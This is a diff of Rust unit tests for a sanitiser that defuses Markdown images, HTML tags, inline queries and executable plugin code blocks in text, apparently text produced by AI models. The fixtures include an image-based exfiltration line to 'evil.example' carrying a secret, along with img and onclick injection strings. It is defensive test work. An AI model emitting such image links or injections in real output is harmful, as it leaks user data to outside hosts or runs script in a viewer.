@@ -9,32 +9,33 @@ fn inert(words: &str) -> String {
 #[test]
 fn what_acts_is_broken() {
     let cases = [
-        ("![x](https://evil.example/?q=secret)", "\\![x](https://evil.example/?q=secret)"),
-        ("![x](//evil.example/a.png)", "\\![x](//evil.example/a.png)"),
-        ("![x](&#104;ttps:evil)", "\\![x](&#104;ttps:evil)"),
-        ("![x][ref]\n\n[ref]: https://evil.example", "\\![x][ref]\n\n[ref]: https://evil.example"),
-        ("![x](pictures/a.png) and ![[Note]]", "![x](pictures/a.png) and ![[Note]]"),
-        ("<img src=x>", "\\<img src=x>"),
+        ("![x](https://evil.example/?q=secret)", "&#33;[x](https://evil.example/?q=secret)"),
+        ("\\![x](a.png) \\\\![x](a.png)", "&#33;[x](a.png) \\\\&#33;[x](a.png)"),
+        ("![x](pictures/a.png) and ![[Note]]", "&#33;[x](pictures/a.png) and &#33;[[Note]]"),
+        ("<img src=x> \\<img src=x>", "&lt;img src=x> &lt;img src=x>"),
         ("a <b>bold</b> <https://ok.example> 1 < 2", "a <b>bold</b> <https://ok.example> 1 < 2"),
-        ("<b onclick=x>", "\\<b onclick=x>"),
+        ("<b>\n<b onclick=x>", "&lt;b>\n&lt;b onclick=x>"),
         ("```dataviewjs\ndv.x()\n```", "```text dataviewjs\ndv.x()\n```"),
-        ("- ```dataviewjs\n  x\n  ```", "- ```text dataviewjs\n  x\n  ```"),
-        ("> ~~~ DataviewJS\n> x", "> ~~~text DataviewJS\n> x"),
-        ("```toolwrit\ntool: x\n```", "```text toolwrit\ntool: x\n```"),
-        ("```meta-bind-js-view\nx\n```", "```text meta-bind-js-view\nx\n```"),
+        ("```Mermaid\nx\n```", "```text Mermaid\nx\n```"),
+        ("- ```dataviewjs\n  x\n  ```", "-\n```text dataviewjs\nx\n```"),
+        ("> ~~~ DataviewJS\n> x", "~~~text DataviewJS\nx"),
         ("```rust\nlet a = b < c;\n// <img>\n```", "```rust\nlet a = b < c;\n// <img>\n```"),
-        ("`= this.file`", "`\\= this.file`"),
-        ("`$= dv.x()`", "`\\$= dv.x()`"),
-        ("`a ` = b", "`a ` \\= b"),
-        ("``INPUT[x]``", "``\\INPUT[x]``"),
+        ("1. a\n\n   ```js\n   x<b>\n   ```", "1. a\n\n   ```js\n   x<b>\n   ```"),
+        ("10. a\n\n    ```js\n    x<b>\n    ```", "10. a\n\n```js\nx<b>\n```"),
+        ("`= this.file`", "&#96;= this.file&#96;"),
+        ("`$= dv.x()`", "&#96;&#36;= dv.x()&#96;"),
+        ("``INPUT[x]``", "&#96;&#96;INPUT[x]&#96;&#96;"),
+        ("`a ` = b", "`a ` = b"),
         ("`<img>` is code", "`<img>` is code"),
-        ("$`$ <img src=x> `", "$`$ \\<img src=x> `"),
-        ("a ` b\n` <img src=x> `", "a ` b\n` \\<img src=x> `"),
-        ("<% tp.x %>", "< % tp.x %>"),
+        ("$`$ <img src=x> `", "&#36;`$ <img src=x> `"),
+        ("a ` b\n` <img src=x> `", "a &#96; b\n` <img src=x> `"),
+        ("$a<b$ costs $5", "$a< b$ costs $5"),
+        ("<% tp.x %>", "&lt;% tp.x %>"),
         ("```js\n<% tp.x %>\n```", "```js\n< % tp.x %>\n```"),
         ("%%hidden%%", "% %hidden% %"),
         ("a\rb\u{2028}c\u{202e}d\u{7}", "a\nb\ncd"),
-        ("- a\n  ```\n<img src=x>\n  ```", "- a\n  ```\n\\<img src=x>\n  ```"),
+        ("- a\n  ```\n<img src=x>\n  ```", "- a\n```\n<img src=x>\n```"),
+        ("[a](<my file.md>)", "[a](my%20file.md)"),
     ];
     for (words, expected) in cases {
         assert_eq!(inert(words), expected, "{words}");
@@ -43,9 +44,9 @@ fn what_acts_is_broken() {
 
 #[test]
 fn operators_choose_which_blocks_execute() {
-    let inert = Inert { executing: vec!["chart*".to_owned()] };
-    assert_eq!(inert.words("```charts\nx\n```"), "```text charts\nx\n```");
-    assert_eq!(inert.words("```dataview\nx\n```"), "```dataview\nx\n```");
+    let inert = Inert { executing: vec!["py*".to_owned()] };
+    assert_eq!(inert.words("```python\nx\n```"), "```text python\nx\n```");
+    assert_eq!(inert.words("```rust\nx\n```"), "```rust\nx\n```");
 }
 
 /// Models make up names of tools, and providers messages.
